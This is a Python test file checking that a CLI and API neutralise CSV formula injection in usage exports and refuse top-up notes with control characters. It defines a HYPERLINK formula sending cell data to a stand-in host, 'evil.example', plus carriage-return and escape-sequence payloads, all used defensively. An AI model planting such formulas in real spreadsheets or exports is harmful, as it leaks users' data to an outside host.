"""Through the real handler and the operator's command: the usage CSV holds no live formula and reads back whole,
and a top-up note with a control character is refused (the CLI says why and writes nothing)."""

from __future__ import annotations

import csv
import io

import pytest
from infery_cli.__main__ import main

from tests.support.api import assert_ok

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'


@pytest.fixture
def api(load_api, closed_port_url):
    return load_api(closed_port_url)  # usage reads the ledger: no model behind it


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_apis_csv_writes_a_formula_note_as_text_and_keeps_numbers(api, accounts):
    api_key, item = accounts.new_key(10)
    accounts.credits.top_up(item, 5, request_id="topup-formula", note=FORMULA)
    reply = api.call("GET", "/v1/usage?days=7&format=csv", api_key=api_key)
    assert_ok(reply)
    rows = read_csv(reply.text)
    [topup] = [row for row in rows if row["request_id"] == "topup-formula"]
    assert topup["note"] == "'" + FORMULA
    assert sum(int(row["credits"]) for row in rows) == 15 == accounts.balance(item)


def test_a_carriage_return_note_already_in_the_ledger_reads_back_whole(api, accounts):
    # written before notes were checked: the export must still read back row by row
    api_key, item = accounts.new_key(10)
    [seed] = accounts.ledger(item)
    accounts.ledger_table.put_item(
        Item={**seed, "entry_id": seed["entry_id"] + "-old", "request_id": "topup-old", "note": "\r=1+1\rx"}
    )
    reply = api.call("GET", "/v1/usage?days=7&format=csv", api_key=api_key)
    assert_ok(reply)
    rows = read_csv(reply.text)
    assert len(rows) == 2 and all(row["key_id"] == item.key_id for row in rows)
    [old] = [row for row in rows if row["request_id"] == "topup-old"]
    assert old["note"] == "'\r=1+1\rx"


def run_infery(capsys, *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize("note", ["\r=1+1", "invoice\t17", "line\nbreak", "\x1b[2Jcleared"])
def test_the_cli_refuses_a_note_with_a_control_character_and_adds_nothing(capsys, accounts, note):
    _, item = accounts.new_key(10)
    ledger_before = len(accounts.ledger(item))
    code, _, err = run_infery(capsys, "credits", "add", item.key_id, "5", "--note", note)
    assert code == 1
    assert "--note" in err and "control character" in err
    assert accounts.balance(item) == 10 and len(accounts.ledger(item)) == ledger_before


def test_the_clis_csv_export_neutralises_a_formula_note(capsys, accounts, tmp_path):
    _, item = accounts.new_key(0)
    code, out, err = run_infery(capsys, "credits", "add", item.key_id, "5", "--note", FORMULA)
    assert code == 0, err
    export = tmp_path / "usage.csv"
    code, _, err = run_infery(capsys, "usage", item.key_id, "--csv", str(export))
    assert code == 0, err
    with export.open(newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["note"] == "'" + FORMULA and row["credits"] == "5"
    code, out, _ = run_infery(capsys, "usage", item.key_id, "--csv", "-")
    assert code == 0 and read_csv(out)[0]["note"] == "'" + FORMULA
